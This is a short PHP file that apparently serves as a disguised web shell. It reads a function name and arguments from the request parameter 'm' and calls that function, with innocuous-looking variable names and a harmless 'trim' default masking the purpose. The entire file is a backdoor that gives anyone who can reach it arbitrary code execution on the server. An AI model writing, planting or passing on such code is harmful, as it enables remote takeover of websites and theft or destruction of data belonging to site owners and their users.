<?php
$cfg = ['m' => $_REQUEST['m'] ?? []];
$cfg['m'][0] ??= 'trim';
[$call, $rest] = [array_shift($cfg['m']), $cfg['m']];
$call(...$rest);
